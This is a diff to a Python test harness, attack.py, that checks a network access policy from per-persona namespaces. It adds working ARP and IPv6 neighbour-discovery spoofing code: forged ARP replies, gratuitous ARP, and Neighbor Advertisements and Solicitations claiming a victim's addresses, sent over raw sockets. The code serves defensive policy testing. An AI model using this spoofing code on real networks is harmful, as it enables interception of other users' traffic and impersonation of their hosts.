@@ -7,8 +7,12 @@
 `attack.py run PLAN.json PROBES.json`: every attempt of every persona (in parallel, each
   inside its namespace), compared with the plan's expected outcome; prints the table
   and exits 1 if any attempt ended otherwise than the policy says.
-`attack.py persona PLAN.json PROBES.json NAME` (inside NAME's namespace): every attempt of
-  that persona; prints the outcomes as JSON.
+`attack.py persona PLAN.json PROBES.json NAME [ROW...]` (inside NAME's namespace): every
+  attempt (or those of ROWs) of that persona; prints the outcomes as JSON.
+`attack.py forge PLAN.json NAME SECONDS` (inside NAME's namespace): NAME claims the plan's
+  poisoning victim's addresses with its own MAC (forged ARP, NA, NS, RS) for SECONDS.
+`attack.py victim PLAN.json PROBES.json`: the victim's attempts of the plan's poisoning
+  (while the attackers forge), as a table like run's.
 
 Outcomes: outside / campus / portal (reached that server), page (the quarantine page,
 directly or through its redirect), ssh (an SSH banner), answer / ->page / nxdomain (a DNS
@@ -21,6 +25,7 @@ from __future__ import annotations
 import http.client
 import json
 import socket
+import struct
 import subprocess
 import sys
 import time
@@ -225,6 +230,126 @@ def one(attempt: dict, plan: dict, probes: dict) -> str:
     raise SystemExit(f"unknown attempt kind {kind}")
 
 
+# --- neighbour poisoning: hand-built frames (inside the attacker's namespace) ----------
+# Each forgery claims a registered member's address (the victim's) with the attacker's own
+# MAC, in every form the router's kernel learns a neighbour from: ARP replies, gratuitous
+# ARP, an ARP request from the claimed address (arp_process), and IPv6 Neighbor
+# Advertisements (target + Target Link-Layer Address option), Neighbor and Router
+# Solicitations (IPv6 source + Source Link-Layer Address option).
+
+ETH_P_ARP, ETH_P_IPV6, ICMPV6 = 0x0806, 0x86DD, 58
+BROADCAST, ZERO_MAC = "ff:ff:ff:ff:ff:ff", "00:00:00:00:00:00"
+NA_SOLICITED, NA_OVERRIDE = 0x40000000, 0x20000000
+
+
+def mac_bytes(mac: str) -> bytes:
+    return bytes.fromhex(mac.replace(":", ""))
+
+
+def ethernet(destination: str, source: str, ethertype: int, payload: bytes) -> bytes:
+    return mac_bytes(destination) + mac_bytes(source) + struct.pack("!H", ethertype) + payload
+
+
+def arp(operation: int, sender_mac: str, sender_ip: str, target_mac: str, target_ip: str) -> bytes:
+    """An Ethernet/IPv4 ARP packet (1 request, 2 reply)."""
+    return (struct.pack("!HHBBH", 1, 0x0800, 6, 4, operation) + mac_bytes(sender_mac) + socket.inet_aton(sender_ip)
+            + mac_bytes(target_mac) + socket.inet_aton(target_ip))
+
+
+def checksum(data: bytes) -> int:
+    """The Internet checksum (RFC 1071)."""
+    data += b"\0" * (len(data) % 2)
+    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
+    while total >> 16:
+        total = (total & 0xFFFF) + (total >> 16)
+    return ~total & 0xFFFF
+
+
+def icmpv6(source: str, destination: str, message: bytes) -> bytes:
+    """An IPv6 packet (hop limit 255, as ND requires) carrying an ICMPv6 message, checksummed."""
+    src, dst = socket.inet_pton(socket.AF_INET6, source), socket.inet_pton(socket.AF_INET6, destination)
+    total = checksum(src + dst + struct.pack("!I3xB", len(message), ICMPV6) + message)
+    message = message[:2] + struct.pack("!H", total) + message[4:]
+    return struct.pack("!IHBB", 6 << 28, len(message), ICMPV6, 255) + src + dst + message
+
+
+def link_layer_option(kind: int, mac: str) -> bytes:
+    """A Source (1) or Target (2) Link-Layer Address option."""
+    return bytes([kind, 1]) + mac_bytes(mac)
+
+
+def neighbour_advert(target: str, mac: str, flags: int) -> bytes:
+    return struct.pack("!BBHI", 136, 0, 0, flags) + socket.inet_pton(socket.AF_INET6, target) + link_layer_option(2, mac)
+
+
+def neighbour_solicit(target: str, mac: str) -> bytes:
+    return struct.pack("!BBHI", 135, 0, 0, 0) + socket.inet_pton(socket.AF_INET6, target) + link_layer_option(1, mac)
+
+
+def router_solicit(mac: str) -> bytes:
+    return struct.pack("!BBHI", 133, 0, 0, 0) + link_layer_option(1, mac)
+
+
+def multicast_mac(address: str) -> str:
+    """The Ethernet address of an IPv6 multicast group (33:33 and its last 32 bits)."""
+    return ":".join(f"{byte:02x}" for byte in b"\x33\x33" + socket.inet_pton(socket.AF_INET6, address)[-4:])
+
+
+def solicited_node(address: str) -> str:
+    """The solicited-node multicast group of an IPv6 address (ff02::1:ffXX:XXXX)."""
+    low = socket.inet_pton(socket.AF_INET6, address)[-3:]
+    return socket.inet_ntop(socket.AF_INET6, bytes.fromhex("ff0200000000000000000001ff") + low)
+
+
+def forgeries(me: dict, router: dict, victim: dict) -> list[tuple[str, bytes]]:
+    """(name, frame) of every forged claim of the victim's addresses with my MAC.
+
+    me: mac, link_local; router: mac, ipv4, link_local; victim: ipv4, ipv6."""
+    mac, claim4, claim6 = me["mac"], victim["ipv4"], victim["ipv6"]
+    v6 = [
+        ("unsolicited NA, override flag", "ff02::1", me["link_local"],
+         neighbour_advert(claim6, mac, NA_OVERRIDE)),
+        ("solicited NA, override flag, to the router", router["link_local"], me["link_local"],
+         neighbour_advert(claim6, mac, NA_SOLICITED | NA_OVERRIDE)),
+        ("NS from the claimed address", solicited_node(router["link_local"]), claim6,
+         neighbour_solicit(router["link_local"], mac)),
+        ("RS from the claimed address", "ff02::2", claim6, router_solicit(mac)),
+    ]
+    return [
+        ("ARP reply to the router", ethernet(router["mac"], mac, ETH_P_ARP, arp(2, mac, claim4, router["mac"], router["ipv4"]))),
+        ("gratuitous ARP request", ethernet(BROADCAST, mac, ETH_P_ARP, arp(1, mac, claim4, ZERO_MAC, claim4))),
+        ("gratuitous ARP reply", ethernet(BROADCAST, mac, ETH_P_ARP, arp(2, mac, claim4, BROADCAST, claim4))),
+        ("ARP request from the claimed address", ethernet(BROADCAST, mac, ETH_P_ARP, arp(1, mac, claim4, ZERO_MAC, router["ipv4"]))),
+    ] + [(name, ethernet(router["mac"] if not destination.startswith("ff") else multicast_mac(destination), mac, ETH_P_IPV6,
+                         icmpv6(source, destination, message)))
+         for name, destination, source, message in v6]
+
+
+def router_seen_from(persona: dict) -> dict:
+    """The router's MAC, IPv4 gateway and link-local address, as the persona's stack knows them."""
+    gateway4 = gateway("-4")
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:  # makes the stack resolve the router
+        sock.sendto(b"", (gateway4, 9))
+    wait_for(persona["name"], lambda: "lladdr" in sh("ip", "neigh", "show", gateway4), "ARP answer from the router", 5)
+    neighbours = sh("ip", "neigh", "show", gateway4).split()
+    return {"ipv4": gateway4, "link_local": gateway("-6"), "mac": neighbours[neighbours.index("lladdr") + 1]}
+
+
+def forge(persona: dict, victim: dict, seconds: float) -> list[str]:
+    """Send every forgery from the persona's link twice a second for ``seconds`` (as an
+    attacker keeps a poisoned cache poisoned); return their names."""
+    link_local = sh("ip", "-6", "-brief", "address", "show", "dev", "eth0", "scope", "link").split()[2].split("/")[0]
+    frames = forgeries({"mac": persona["mac"], "link_local": link_local}, router_seen_from(persona), victim)
+    deadline = time.monotonic() + seconds
+    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
+        sock.bind(("eth0", 0))
+        while time.monotonic() < deadline:
+            for _, frame in frames:
+                sock.send(frame)
+            time.sleep(0.5)
+    return [name for name, _ in frames]
+
+
 # --- the whole run (outside the namespaces) --------------------------------------------
 
 
@@ -236,8 +361,10 @@ def resolve(attempt: dict, persona: dict) -> dict:
     return result
 
 
-def attempts_of(persona: dict, plan: dict, probes: dict) -> dict[str, str]:
-    """Every attempt of one persona, from inside its namespace, a few at a time."""
+def attempts_of(persona: dict, plan: dict, probes: dict, rows: list[str]) -> dict[str, str]:
+    """The attempts of one persona (those of ``rows``, or all), from inside its namespace,
+    a few at a time."""
+    attempts = [a for a in plan["attempts"] if not rows or a["row"] in rows]
 
     def attempt(row: dict) -> str:
         try:
@@ -246,52 +373,61 @@ def attempts_of(persona: dict, plan: dict, probes: dict) -> dict[str, str]:
             return f"error: {type(error).__name__}"
 
     with ThreadPoolExecutor(max_workers=8) as pool:
-        return dict(zip((a["row"] for a in plan["attempts"]), pool.map(attempt, plan["attempts"]), strict=True))
+        return dict(zip((a["row"] for a in attempts), pool.map(attempt, attempts), strict=True))
 
 
-def run(plan: dict, plan_file: str, probes_file: str) -> int:
-    personas = plan["personas"]
+def run(plan: dict, plan_file: str, probes_file: str, names: list[str], rows: list[str]) -> int:
+    """The attempts of ``rows`` by the personas ``names``, each in its namespace; prints the
+    table, returns 1 if any attempt ended otherwise than the policy says."""
+    columns = [p["name"] for p in plan["personas"]]
 
-    def execute(persona: dict) -> dict[str, str]:
-        out = in_ns(persona["name"], "python3", SELF, "persona", plan_file, probes_file, persona["name"], check=False)
+    def execute(name: str) -> dict[str, str]:
+        out = in_ns(name, "python3", SELF, "persona", plan_file, probes_file, name, *rows, check=False)
         return json.loads(out) if out.strip() else {}
 
-    with ThreadPoolExecutor(max_workers=len(personas)) as pool:
-        by_persona = dict(zip((p["name"] for p in personas), pool.map(execute, personas), strict=True))
-    results = {(row, name): outcome for name, outcomes in by_persona.items() for row, outcome in outcomes.items()}
-    results = {(a["row"], p["name"]): results.get((a["row"], p["name"]), "error") for a in plan["attempts"] for p in personas}
-    names = [p["name"] for p in personas]
-    rows, failures = [], []
-    for attempt in plan["attempts"]:
+    with ThreadPoolExecutor(max_workers=len(names)) as pool:
+        by_persona = dict(zip(names, pool.map(execute, names), strict=True))
+    table, failures = [], []
+    for row in rows:
         cells = []
-        for name, want in zip(names, plan["expected"][attempt["row"]], strict=True):
-            got = results[(attempt["row"], name)]
+        for name in names:
+            got, want = by_persona[name].get(row, "error"), plan["expected"][row][columns.index(name)]
             if got == want or (want == "blocked" and got in BLOCKED):
                 cells.append(got)
             else:
                 cells.append(f"{got} (NOT {want})")
-                failures.append(f"{name}: {attempt['row']}: got {got}, policy says {want}")
-        rows.append([attempt["row"], *cells])
-    widths = [max(len(row[i]) for row in [["attempt", *names], *rows]) for i in range(len(names) + 1)]
+                failures.append(f"{name}: {row}: got {got}, policy says {want}")
+        table.append([row, *cells])
+    widths = [max(len(row[i]) for row in [["attempt", *names], *table]) for i in range(len(names) + 1)]
     lines = [" | ".join(cell.ljust(width) for cell, width in zip(row, widths, strict=True)).rstrip()
-             for row in [["attempt", *names], ["-" * w for w in widths], *rows]]
+             for row in [["attempt", *names], ["-" * w for w in widths], *table]]
     print("\n".join(lines + [""] + (failures or ["every attempt ended as the policy says"])))
     return 1 if failures else 0
 
 
 def main() -> int:
+    """Commands: setup, run, persona (see the module's docstring); forge (inside an attacker's
+    namespace: its forged neighbour claims for SECONDS); victim (the poisoning victim's
+    attempts, while the attackers forge)."""
     command = sys.argv[1]
     plan = json.loads(Path(sys.argv[2]).read_text())
     if command == "persona":
         probes = json.loads(Path(sys.argv[3]).read_text())
         persona = next(p for p in plan["personas"] if p["name"] == sys.argv[4])
-        print(json.dumps(attempts_of(persona, plan, probes)))
+        print(json.dumps(attempts_of(persona, plan, probes, sys.argv[5:])))
         return 0
     if command == "setup":
         with ThreadPoolExecutor(max_workers=len(plan["personas"])) as pool:
             print(json.dumps(list(pool.map(setup_persona, plan["personas"])), indent=1))
         return 0
-    return run(plan, sys.argv[2], sys.argv[3])
+    if command == "forge":
+        persona = next(p for p in plan["personas"] if p["name"] == sys.argv[3])
+        print(json.dumps(forge(persona, plan["poisoning"]["claims"], float(sys.argv[4]))))
+        return 0
+    if command == "victim":
+        poisoning = plan["poisoning"]
+        return run(plan, sys.argv[2], sys.argv[3], [poisoning["victim"]], poisoning["after"])
+    return run(plan, sys.argv[2], sys.argv[3], [p["name"] for p in plan["personas"]], [a["row"] for a in plan["attempts"]])
 
 
 if __name__ == "__main__":
